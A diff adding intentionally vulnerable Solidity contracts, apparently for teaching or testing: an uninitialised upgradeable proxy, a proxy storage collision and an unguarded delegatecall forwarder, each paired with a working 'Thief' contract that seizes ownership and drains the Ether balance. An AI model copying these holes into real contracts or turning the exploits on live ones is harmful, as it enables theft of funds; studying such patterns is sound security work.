@@ -156,3 +156,120 @@ contract FalseClock {
         owner = tx.origin;
     }
 }
+
+/// @notice Somebody's first word makes him the owner: of a proxy's code too, where nobody speaks first.
+contract Engine {
+    bytes32 private constant _CODE = bytes32(uint256(keccak256("eip1967.proxy.implementation")) - 1);
+
+    address public upgrader;
+
+    constructor() payable {}
+
+    function initialize() external {
+        require(upgrader == address(0), "initialised");
+        upgrader = msg.sender;
+    }
+
+    function upgradeToAndCall(address code, bytes calldata data) external {
+        require(msg.sender == upgrader, "upgrader");
+        bytes32 slot = _CODE;
+        assembly {
+            sstore(slot, code)
+        }
+        (bool done,) = code.delegatecall(data);
+        require(done);
+    }
+}
+
+/// @notice Speaks first, and has the code emptied.
+contract EngineThief {
+    receive() external payable {}
+
+    function steal(Engine engine) external {
+        engine.initialize();
+        engine.upgradeToAndCall(address(new Draining()), abi.encodeCall(Draining.drain, (payable(address(this)))));
+    }
+}
+
+/// @notice VULNERABLE (storage collision): who asks to be admin lies where the code behind has its owner.
+contract AskingProxy {
+    address public asking;
+    address private immutable _code;
+
+    constructor(address code) payable {
+        asking = msg.sender;
+        _code = code;
+    }
+
+    function ask(address admin) external {
+        asking = admin;
+    }
+
+    receive() external payable {}
+
+    fallback() external payable {
+        address code = _code;
+        assembly {
+            calldatacopy(0, 0, calldatasize())
+            let done := delegatecall(gas(), code, 0, calldatasize(), 0, 0)
+            returndatacopy(0, 0, returndatasize())
+            if iszero(done) { revert(0, returndatasize()) }
+            return(0, returndatasize())
+        }
+    }
+}
+
+contract BehindAskingProxy {
+    address public owner;
+
+    function withdraw() external {
+        require(msg.sender == owner, "owner");
+        payable(msg.sender).transfer(address(this).balance);
+    }
+}
+
+contract AskingThief {
+    receive() external payable {}
+
+    function steal(address proxy) external {
+        AskingProxy(payable(proxy)).ask(address(this));
+        BehindAskingProxy(proxy).withdraw();
+    }
+}
+
+/// @notice VULNERABLE: whatever is not known here is for the library, on this contract's storage.
+contract Forwarding {
+    address public owner = msg.sender;
+    address private immutable _library;
+
+    constructor(address library_) payable {
+        _library = library_;
+    }
+
+    function withdraw() external {
+        require(msg.sender == owner, "owner");
+        payable(msg.sender).transfer(address(this).balance);
+    }
+
+    fallback() external {
+        (bool done,) = _library.delegatecall(msg.data);
+        require(done);
+    }
+}
+
+contract OwnersLibrary {
+    address public owner;
+
+    function claim() external {
+        owner = msg.sender;
+    }
+}
+
+contract ForwardingThief {
+    receive() external payable {}
+
+    function steal(address forwarding) external {
+        OwnersLibrary(forwarding).claim();
+        Forwarding(forwarding).withdraw();
+    }
+}
